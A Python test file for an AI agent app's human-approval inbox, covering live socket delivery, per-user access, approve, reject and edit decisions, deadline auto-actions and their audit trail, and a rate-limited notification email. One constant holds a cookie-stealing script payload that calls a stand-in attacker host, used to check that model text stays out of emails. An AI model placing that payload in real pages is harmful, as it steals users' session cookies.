"""One inbox and deadlines (issue 30), through the service and the inbox socket.

A step that starts waiting reaches its owner's inbox socket live, and nobody else's; a decision
sent there runs it through the notebook's own `decide`; a passed deadline rejects the calls
automatically, exactly once however many sweeps race, and the audit says so; the opt-in email
is rate-limited and carries nothing the model wrote.
"""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest
from channels.db import database_sync_to_async
from channels.testing import WebsocketCommunicator
from django.contrib.auth.models import AbstractBaseUser

from runs import service
from runs.engine.testing import Match, Reply, Rule, Script, ToolCallSpec
from runs.models import Event, InboxSettings, Task
from runs.protocol import ProtocolError
from runs.service import deadlines
from tests.live_support import (
    ANSWER,
    QUESTION,
    analyst_script,
    close_db_connections,  # noqa: F401  (autouse: closes the ORM thread's connection)
    inbox_socket,
    llm_at,
    make_notebook,
    make_user,
    until_true,
)

pytestmark = [pytest.mark.db, pytest.mark.ws, pytest.mark.django_db(transaction=True)]

HOSTILE = (
    "<script>fetch('https://evil.example/'+document.cookie)</script> sk-live-SECRET"
)


async def next_list(
    ws: WebsocketCommunicator, count: int, started: bool = False
) -> dict[str, Any]:
    """The first `inbox` message with `count` items (earlier lists are skipped); with
    `started`, the one that says which notebook started waiting (the "running" change's list
    may already hold the wait: it is read when that message is handled)."""
    while True:
        message = json.loads(await ws.receive_from(timeout=10))
        if message["type"] == "inbox" and message["count"] == count:
            if not started or message.get("started"):
                return message


async def decide(
    ws: WebsocketCommunicator,
    request_id: str,
    notebook: int,
    step_id: str,
    **fields: Any,
) -> None:
    """Send a `decide` frame on an inbox socket."""
    frame = {"action": "decide", "request_id": request_id, "notebook": notebook}
    await ws.send_to(text_data=json.dumps({**frame, "step_id": step_id, **fields}))


async def human_actions(task_pk: int) -> list[dict[str, Any]]:
    rows = Event.objects.filter(task_id=task_pk, type="human_action").order_by("seq")
    return [e.payload async for e in rows]


async def test_a_waiting_step_reaches_the_inbox_live_and_is_approved_from_it(
    scripted_server: Any,
) -> None:
    server = scripted_server(analyst_script())
    alice = await database_sync_to_async(make_user)("alice")
    bob = await database_sync_to_async(make_user)("bob")
    with llm_at(server):
        task = await database_sync_to_async(make_notebook)(alice, mode="tools")
        mine = await inbox_socket(alice)
        theirs = await inbox_socket(bob)
        assert (await next_list(mine, 0))["items"] == []
        await next_list(theirs, 0)

        await service.send_message(task.pk, QUESTION)
        listed = await next_list(mine, 1, started=True)
        item = listed["items"][0]
        assert listed["started"] == {"notebook": task.pk, "title": QUESTION}
        assert (item["notebook"], item["kind"]) == (task.pk, "tool_calls")
        assert [c["tool_name"] for c in item["calls"]] == ["add", "multiply"]
        assert item["calls"][0]["arguments"] == {"a": 2, "b": 3}
        assert await theirs.receive_nothing(timeout=0.2)  # bob hears nothing of alice's

        # bob cannot decide on alice's step; alice approves with an edited argument
        await decide(theirs, "b1", task.pk, item["step_id"], verdict="approve")
        refused = json.loads(await theirs.receive_from(timeout=5))
        assert (refused["type"], refused["code"]) == ("error", "not_found")
        edited = json.dumps([{"tool_id": "call_add", "tool_kwargs": {"a": 2, "b": 4}}])
        await decide(
            mine, "a1", task.pk, item["step_id"], verdict="approve", edited=edited
        )
        acked = await until_true(lambda: _ack(mine), what="the decision's ack")
        assert acked["request_id"] == "a1"
        await service.wait_idle()
        await mine.disconnect()
        await theirs.disconnect()
    turn = await task.turns.aget()
    assert turn.response == ANSWER
    actions = await human_actions(task.pk)
    assert [(a["action"], a["by"], a.get("automatic")) for a in actions] == [
        ("edited_arguments", "alice", None),
        ("approved", "alice", None),
    ]
    assert await database_sync_to_async(service.inbox_of)(alice.pk) == []


async def _ack(ws: WebsocketCommunicator) -> dict[str, Any] | None:
    if await ws.receive_nothing(timeout=0.05):
        return None
    message = json.loads(await ws.receive_from())
    return message if message["type"] == "ack" else None


async def wait_with_deadline(server: Any, seconds: int) -> tuple[Task, dict[str, Any]]:
    alice = await database_sync_to_async(make_user)("alice")
    task = await database_sync_to_async(make_notebook)(alice, mode="tools")
    await Task.objects.filter(pk=task.pk).aupdate(wait_deadline_s=seconds)
    await service.send_message(task.pk, QUESTION)
    waiting = await until_true(
        lambda: Event.objects.filter(task=task, type="step_waiting").alast(),
        what="the tool calls to wait",
    )
    await service.wait_idle()
    return task, waiting.payload


async def test_a_passed_deadline_rejects_the_calls_once_and_the_audit_says_so(
    scripted_server: Any,
) -> None:
    server = scripted_server(analyst_script())
    with llm_at(server):
        task, waiting = await wait_with_deadline(server, 600)
        assert waiting["deadline_s"] == 600 and waiting["deadline_action"] == "reject"
        assert waiting["deadline_at"] == pytest.approx(waiting["at"] + 600)
        # before the deadline nothing happens
        assert await deadlines.sweep_once(now=waiting["deadline_at"] - 1) == 0
        # after it, three sweeps at once (as three server processes) act once
        after = waiting["deadline_at"] + 0.5
        acted = await asyncio.gather(
            *(deadlines.sweep_once(now=after) for _ in range(3))
        )
        await service.wait_idle()
    assert sum(acted) == 1
    actions = await human_actions(task.pk)
    why = "the deadline of 10 min passed"
    assert [(a["action"], a.get("tool_id"), a.get("automatic")) for a in actions] == [
        ("rejected_call", "call_add", why),
        ("rejected_call", "call_mul", why),
        ("approved", None, why),
    ]
    assert actions[0]["reason"] == f"Rejected automatically: {why}."
    # what the model was told is the recorded reason
    told = [m for m in server.requests[-1].messages if m.get("role") == "tool"]
    assert len(told) == 2
    assert all(f"Rejected automatically: {why}." in m["content"] for m in told)


async def test_a_stop_deadline_stops_the_turn_automatically(
    scripted_server: Any,
) -> None:
    server = scripted_server(analyst_script())
    with llm_at(server):
        alice = await database_sync_to_async(make_user)("alice")
        task = await database_sync_to_async(make_notebook)(alice, mode="step")
        await database_sync_to_async(service.set_deadline)(task.pk, 60, "stop")
        await service.send_message(task.pk, QUESTION)
        waiting = await Event.objects.filter(task=task, type="step_waiting").alast()
        assert waiting is not None
        after = waiting.payload["deadline_at"] + 1
        acted = await asyncio.gather(
            *(deadlines.sweep_once(now=after) for _ in range(3))
        )
        assert sum(acted) == 1  # three sweeps (processes) at once: one stop
        await service.wait_idle()
    stop = (await human_actions(task.pk))[-1]
    assert (stop["action"], stop["automatic"]) == (
        "stopped",
        "the deadline of 1 min passed",
    )
    assert len(server.requests) == 0  # the step never ran
    assert (await Task.objects.aget(pk=task.pk)).status == "idle"


def test_a_deadline_out_of_range_is_refused_and_nothing_changes() -> None:
    task = make_notebook(make_user())
    for seconds, action in ((-1, ""), (8 * 24 * 3600, ""), (60, "approve")):
        with pytest.raises(ProtocolError):
            service.set_deadline(task.pk, seconds, action)
    task.refresh_from_db()
    assert (task.wait_deadline_s, task.wait_deadline_action) == (None, "")


def hostile_rules() -> list[Rule]:
    return [
        Rule(
            name="hostile call",
            match=Match(tool_results_since_user=0),
            reply=Reply(
                text=HOSTILE,
                tool_calls=[
                    ToolCallSpec(name="add", arguments={"a": 1, "b": HOSTILE}, id="c1")
                ],
            ),
        )
    ]


async def test_the_wait_email_is_opt_in_rate_limited_and_carries_no_model_text(
    scripted_server: Any, mailoutbox: list[Any], settings: Any
) -> None:
    settings.AGENTUI_WAIT_EMAIL_EVERY_S = 600
    server = scripted_server(Script(rules=hostile_rules()))
    alice = await database_sync_to_async(make_user)("alice")
    alice.email = "alice@example.org"
    await alice.asave()
    with llm_at(server):
        quiet = await database_sync_to_async(make_notebook)(alice, mode="tools")
        await service.send_message(quiet.pk, "Add <b>these</b>")
        await service.wait_idle()
        assert mailoutbox == []  # not asked for
        await InboxSettings.objects.aupdate_or_create(
            user=alice, defaults={"email_on_wait": True}
        )
        first = await database_sync_to_async(make_notebook)(alice, mode="tools")
        await service.send_message(first.pk, "Add them, first")
        await service.wait_idle()
        second = await database_sync_to_async(make_notebook)(alice, mode="tools")
        await service.send_message(second.pk, "Add them, second")
        await service.wait_idle()
    assert len(mailoutbox) == 1  # the second wait fell within the rate limit
    mail = mailoutbox[0]
    assert mail.to == ["alice@example.org"]
    assert f"/tasks/{first.pk}/" in mail.body and "Add them, first" in mail.subject
    for part in (mail.subject, mail.body):
        assert "<script" not in part and "SECRET" not in part and "evil" not in part
    row = await InboxSettings.objects.aget(user=alice)
    assert row.unsent_waits == 1


async def first_wait(
    user: AbstractBaseUser, text: str, **notebook: str
) -> tuple[Task, WebsocketCommunicator, dict[str, Any]]:
    """A new notebook of `user`'s started with `text`, their inbox socket, and the inbox item
    of its first waiting step (heard on the socket)."""
    task = await database_sync_to_async(make_notebook)(user, **notebook)
    ws = await inbox_socket(user)
    await next_list(ws, 0)
    await service.send_message(task.pk, text)
    return task, ws, (await next_list(ws, 1))["items"][0]


async def next_reply(ws: WebsocketCommunicator) -> dict[str, Any]:
    """The next ack or error (lists sent meanwhile are skipped)."""
    while True:
        message = json.loads(await ws.receive_from(timeout=10))
        if message["type"] in ("ack", "error"):
            return message


async def test_rejecting_from_the_inbox_rejects_every_call_with_the_reason_and_a_fork_shows_up(
    scripted_server: Any,
) -> None:
    server = scripted_server(analyst_script())
    alice = await database_sync_to_async(make_user)("alice")
    with llm_at(server):
        task, ws, item = await first_wait(alice, QUESTION, mode="tools")
        step_id = item["step_id"]

        await decide(ws, "q", task.pk, step_id, verdict="answer", text="yes")
        refused = await next_reply(ws)
        assert (refused["code"], refused["request_id"]) == ("not_allowed", "q")
        await decide(ws, "r0", task.pk, step_id, verdict="reject", text="  ")
        assert (await next_reply(ws))["code"] == "invalid_input"  # a reason is needed
        await decide(ws, "r1", task.pk, step_id, verdict="reject", text="not today")
        assert (await next_reply(ws))["type"] == "ack"
        await service.wait_idle()
        await next_list(ws, 0)

        first = await task.steps.filter(kind="llm").order_by("created_at").afirst()
        assert first is not None
        fork = await database_sync_to_async(service.fork_notebook)(
            task.pk, first.step_id
        )
        forked = await next_list(ws, 1)  # a fork's waiting step shows up at once
        assert forked["items"][0]["notebook"] == fork.pk
        await ws.disconnect()
    actions = await human_actions(task.pk)
    assert [(a["action"], a["by"], a.get("reason")) for a in actions] == [
        ("rejected_call", "alice", "not today"),
        ("rejected_call", "alice", "not today"),
        ("approved", "alice", None),
    ]
    told = [m for m in server.requests[-1].messages if m.get("role") == "tool"]
    assert len(told) == 2 and all("not today" in m["content"] for m in told)


async def test_the_settings_default_deadline_applies_unless_a_notebook_has_none(
    scripted_server: Any, settings: Any
) -> None:
    settings.AGENTUI_WAIT_DEADLINE_S = 60
    server = scripted_server(analyst_script())
    alice = await database_sync_to_async(make_user)("alice")
    with llm_at(server):
        default = await database_sync_to_async(make_notebook)(alice, mode="step")
        never = await database_sync_to_async(make_notebook)(alice, mode="step")
        await database_sync_to_async(service.set_deadline)(never.pk, 0, "")
        for task in (default, never):
            await service.send_message(task.pk, QUESTION)
        waits = {
            e.task_id: e.payload
            async for e in Event.objects.filter(type="step_waiting")
        }
        assert waits[default.pk]["deadline_s"] == 60
        assert waits[never.pk].get("deadline_at") is None
        far = waits[default.pk]["deadline_at"] + 3600
        assert await deadlines.sweep_once(now=far) == 1
        await service.wait_idle()
    assert [a["automatic"] for a in await human_actions(default.pk)] == [
        "the deadline of 1 min passed"
    ]
    assert await human_actions(never.pk) == []


async def test_a_team_question_is_listed_with_who_asks_and_answered_from_the_inbox(
    scripted_server: Any, tmp_path: Any, settings: Any
) -> None:
    from runs.demo.team import QUESTION as TEAM_QUESTION
    from runs.demo.team import TEAM_PROMPT, team_rules

    settings.AGENTUI_DATA_DIR = str(tmp_path)
    server = scripted_server(Script(rules=team_rules()))
    alice = await database_sync_to_async(make_user)("alice")
    with llm_at(server):
        task, ws, item = await first_wait(alice, TEAM_PROMPT, agent="team")
        assert (item["kind"], item["question"], item["asker"]) == (
            "human_input",
            TEAM_QUESTION,
            "planner",
        )
        await decide(
            ws, "a1", task.pk, item["step_id"], verdict="answer", text="Europe please"
        )
        assert (await next_reply(ws))["type"] == "ack"
        await service.wait_idle()
        await ws.disconnect()
    answered = await Event.objects.filter(task=task, type="human_response").aget()
    assert answered.payload["response"] == "Europe please"
    turn = await task.turns.aget()
    assert turn.status == "completed" and "grew most" in (turn.response or "")
